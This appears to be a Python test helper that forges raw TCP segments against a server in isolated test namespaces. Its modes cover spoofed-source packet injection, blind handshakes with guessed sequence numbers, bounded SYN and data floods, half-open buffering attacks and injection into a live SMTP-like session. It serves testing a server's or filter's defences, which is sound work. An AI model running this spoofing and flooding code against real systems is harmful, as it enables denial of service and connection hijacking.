#!/usr/bin/env python3
"""The attacker of tests/live/attack.sh: forged TCP segments over raw sockets. Every loop is
bounded by its count; nothing is sent but to DST, an address of the test's own namespaces.

  forge.py one SRC DST PORT TEXT
      One PSH|ACK segment carrying TEXT from SRC (any address, IPv4 or IPv6) and a random
      port, with random sequence and acknowledgement numbers: no connection behind it.
  forge.py blind SRC DST PORT TEXT
      A blind handshake: SYN, then an ACK guessing the server's sequence number (the SYN-ACK
      goes to SRC, which the forger cannot read), then TEXT with that same guess.
  forge.py flood BASE SPAN DST PORT COUNT [TEXT]
      COUNT forged flows of one segment each: TEXT (PSH|ACK), or without TEXT a SYN (half-open:
      the server's SYN-ACK goes nowhere). From BASE + i % SPAN (IPv4), port 1024 + i // SPAN.
  forge.py hold BASE SPAN DST PORT COUNT
      COUNT half-open flows built to make a filter buffer: a SYN, an in-order segment of 1400
      bytes with no line end (a partial command line), and three segments of 1400 bytes ahead
      of a gap (out of order) — none with ACK, so the server's stack drops them silently.
  forge.py guess IFACE SRC DST PORT TEXT
      A real session from SRC (routed to this namespace, not assigned: read on IFACE), then TEXT
      forged into it twice — with the right sequence number and an acknowledgement of bytes the
      server never sent, and with a sequence number 2^31 away — then NOOP over the real
      session. Prints "alive" if the real session still answers, else how it ended.
"""
import ipaddress, random, socket, struct, sys, time

from inet import checksum

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def tcp_header(sport, dport, seq, ack, flags, payload, pseudo):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0) + payload
    return tcp[:16] + struct.pack("!H", checksum(pseudo(len(tcp)) + tcp)) + tcp[18:]


class Sender:
    """Sends forged segments from any source: IPv4 with our own header (IPPROTO_RAW), IPv6
    through a raw TCP socket bound to the forged source (the test's sources are local then)."""

    def __init__(self, src, dst):
        self.src, self.dst = src, dst
        self.v6 = ":" in dst
        if self.v6:
            self.sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
            self.sock.bind((src, 0))
        else:
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, sport, dport, seq, ack, flags, payload=b"", src=None):
        src = src or self.src
        if self.v6:
            s6, d6 = ipaddress.IPv6Address(src).packed, ipaddress.IPv6Address(self.dst).packed
            pseudo = lambda n: s6 + d6 + struct.pack("!IxxxB", n, 6)
            self.sock.sendto(tcp_header(sport, dport, seq, ack, flags, payload, pseudo), (self.dst, 0))
            return
        s4, d4 = socket.inet_aton(src), socket.inet_aton(self.dst)
        pseudo = lambda n: s4 + d4 + struct.pack("!BBH", 0, 6, n)
        tcp = tcp_header(sport, dport, seq, ack, flags, payload, pseudo)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000,
                         64, 6, 0, s4, d4)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.sock.sendto(ip + tcp, (self.dst, 0))


def text(t):
    return t.encode("latin-1").replace(b"\\r\\n", b"\r\n") + b"\r\n"


def main():
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "one":
        src, dst, port, t = args[0], args[1], int(args[2]), text(args[3])
        Sender(src, dst).send(random.randint(1024, 65535), port, random.getrandbits(32),
                              random.getrandbits(32), PSH | ACK, t)
    elif mode == "blind":
        src, dst, port, t = args[0], args[1], int(args[2]), text(args[3])
        s, sport, isn = Sender(src, dst), random.randint(1024, 65535), random.getrandbits(32)
        guess = random.getrandbits(32)
        s.send(sport, port, isn, 0, SYN)
        time.sleep(0.2)
        s.send(sport, port, isn + 1, guess, ACK)
        time.sleep(0.05)
        s.send(sport, port, isn + 1, guess, PSH | ACK, t)
    elif mode == "flood":
        base, span, dst, port, count = args[0], int(args[1]), args[2], int(args[3]), int(args[4])
        t = text(args[5]) if len(args) > 5 else b""
        flags = PSH | ACK if t else SYN
        s, first = Sender(base, dst), int(ipaddress.IPv4Address(base))
        for i in range(count):
            src = str(ipaddress.IPv4Address(first + i % span))
            s.send(1024 + i // span, port, random.getrandbits(32),
                   random.getrandbits(32) if t else 0, flags, t, src=src)
    elif mode == "hold":
        base, span, dst, port, count = args[0], int(args[1]), args[2], int(args[3]), int(args[4])
        s, first, chunk = Sender(base, dst), int(ipaddress.IPv4Address(base)), b"a" * 1400
        for i in range(count):
            src = str(ipaddress.IPv4Address(first + i % span))
            sport, isn = 1024 + i // span, random.getrandbits(32)
            s.send(sport, port, isn, 0, SYN, src=src)
            s.send(sport, port, (isn + 1) & 0xFFFFFFFF, 0, PSH, chunk, src=src)
            for k in range(2, 5):
                s.send(sport, port, (isn + 1 + k * 1400) & 0xFFFFFFFF, 0, PSH, chunk, src=src)
    elif mode == "guess":
        from raw_client import Conn
        iface, src, dst, port, t = args[0], args[1], args[2], int(args[3]), text(args[4])
        c = Conn(iface, src, dst, port, 5.0)
        outcome = c.connect() or c.reply()
        if outcome:
            print(outcome)
            return
        c.send(PSH | ACK, b"EHLO real.test\r\n")
        c.snd = (c.snd + 16) & 0xFFFFFFFF
        outcome = c.reply("250")
        if outcome:
            print(outcome)
            return
        forger = Sender(src, dst)
        forger.send(c.sport, port, c.snd, (c.rcv + (1 << 30)) & 0xFFFFFFFF, PSH | ACK, t)
        forger.send(c.sport, port, (c.snd + (1 << 31)) & 0xFFFFFFFF, c.rcv, PSH | ACK, t)
        time.sleep(0.3)
        c.send(PSH | ACK, b"NOOP\r\n")
        c.snd = (c.snd + 6) & 0xFFFFFFFF
        outcome = c.reply("250")
        c.send(RST)
        print(outcome or "alive")
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
